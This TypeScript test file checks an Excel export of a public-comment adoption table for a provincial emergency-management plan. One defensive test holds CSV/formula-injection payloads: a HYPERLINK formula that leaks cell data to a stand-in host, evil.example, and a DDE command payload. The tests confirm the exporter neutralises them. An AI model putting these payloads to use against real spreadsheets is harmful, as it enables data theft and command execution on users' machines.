import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { opinionTableXlsx, SHEET_NAME } from './export-xlsx.js';
import { EXPECTED_GROUPS, META, ROWS } from './opinion-table.fixtures.js';
import { OPINION_COLUMNS } from './opinion-table.js';
import { inertText } from './xlsx.js';
import { readZipText } from './zip.test-support.js';

async function readBack(file: Uint8Array): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file.buffer.slice(file.byteOffset, file.byteOffset + file.byteLength) as ArrayBuffer);
  const sheet = workbook.getWorksheet(SHEET_NAME);
  if (!sheet) throw new Error(`no sheet named ${SHEET_NAME}`);
  return sheet;
}

const values = (row: ExcelJS.Row) =>
  Array.from({ length: OPINION_COLUMNS.length }, (_, i) => row.getCell(i + 1).value ?? '');

describe('opinionTableXlsx', () => {
  it('writes the title, the stage line and the eight columns in order on a sheet named 意见采纳情况表', async () => {
    const sheet = await readBack(await opinionTableXlsx(META, ROWS));
    expect(sheet.getCell('A1').value).toBe('《浙江省应急管理“十四五”规划》意见采纳情况表');
    expect(sheet.getCell('H1').isMerged).toBe(true);
    expect(sheet.getCell('A2').value).toBe('征求意见稿 · 第 1 版 · 生成于 2020-11-16');
    expect(values(sheet.getRow(3))).toEqual([...OPINION_COLUMNS]);
  });

  it('groups rows by chapter, whole-draft opinions first, numbering on across groups', async () => {
    const sheet = await readBack(await opinionTableXlsx(META, ROWS));
    const groups: { chapter: string; numbers: number[] }[] = [];
    sheet.eachRow((row, rowNumber) => {
      if (rowNumber <= 3) return;
      const first = row.getCell(1).value;
      if (typeof first === 'string') {
        expect(row.getCell(8).isMerged).toBe(true);
        groups.push({ chapter: first, numbers: [] });
      } else {
        expect(row.outlineLevel).toBe(1);
        groups.at(-1)?.numbers.push(first as number);
      }
    });
    expect(groups).toEqual(EXPECTED_GROUPS);
    expect(values(sheet.getRow(5))).toEqual([
      1,
      '全文',
      '',
      '建议全文统一“应急管理部门”的称谓。',
      '省安科院 专家组',
      '专家评审',
      '采纳',
      '已统一。',
    ]);
    expect(values(sheet.getRow(8))).toEqual([
      3,
      '二、面临形势',
      '超强台风“利奇马”',
      '台风影响的表述过于笼统，\n建议量化直接经济损失。',
      '省人大代表 王某',
      '会议',
      '部分采纳',
      '补充受灾人口数据；经济损失以统计部门公布为准。',
    ]);
  });

  it('freezes the panes below the header, filters on the header row, wraps text and sizes the columns', async () => {
    const sheet = await readBack(await opinionTableXlsx(META, ROWS));
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(sheet.autoFilter).toBe(`A3:H${sheet.rowCount}`);
    expect(sheet.getCell('D5').alignment).toMatchObject({ wrapText: true });
    const widths = sheet.columns.map((column) => column.width ?? 0);
    expect(widths).toHaveLength(8);
    const widest = [...widths].sort((a, b) => b - a).slice(0, 2);
    expect(widest).toEqual([widths[3], widths[2]]);
    expect(sheet.pageSetup).toMatchObject({ orientation: 'landscape', paperSize: 9 });
  });

  it('says so when a round brought no opinions', async () => {
    const sheet = await readBack(await opinionTableXlsx(META, []));
    expect(values(sheet.getRow(3))).toEqual([...OPINION_COLUMNS]);
    expect(sheet.getCell('A4').value).toBe('本轮未收到意见');
  });

  it('drops characters XML cannot carry, so a pasted control character does not corrupt the file', async () => {
    const pasted = { ...ROWS[0], chapter: '第一章', opinion: '建议\u0007补充\ud800指标。' } as (typeof ROWS)[number];
    const sheet = await readBack(await opinionTableXlsx(META, [pasted]));
    expect(sheet.getCell('D5').value).toBe('建议补充指标。');
  });
});

describe('formula-looking text in the workbook', () => {
  it('makes text that starts like a formula inert: a text cell with an apostrophe, never a formula', async () => {
    const hostile = {
      ...ROWS[0],
      chapter: '第一章',
      opinion: '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看依据")',
      author: "@SUM(1+1)*cmd|' /C calc'!A0",
      quote: '+86 571 8888 8888',
      reason: '-2+3',
    } as (typeof ROWS)[number];
    const file = await opinionTableXlsx({ ...META, planTitle: '=1+1' }, [hostile]);
    const sheet = await readBack(file);
    const cells = [sheet.getCell('D5'), sheet.getCell('E5'), sheet.getCell('C5'), sheet.getCell('H5')];
    expect(cells.map((cell) => cell.type)).toEqual(Array(4).fill(ExcelJS.ValueType.String));
    expect(cells.map((cell) => cell.value)).toEqual([
      '\'=HYPERLINK("http://evil.example/?leak="&A1,"点击查看依据")',
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'+86 571 8888 8888",
      "'-2+3",
    ]);
    expect(sheet.getCell('A1').value).toBe('《=1+1》意见采纳情况表');
    // Nothing in the sheet's XML is a formula.
    expect(readZipText(file, 'xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
  });

  it('leaves ordinary text, and numbers, as they were', () => {
    expect(inertText('建议补充指标。')).toBe('建议补充指标。');
    expect(inertText('“十四五”')).toBe('“十四五”');
    expect(inertText('=')).toBe("'=");
    expect(inertText('\t=1')).toBe("'\t=1");
  });
});
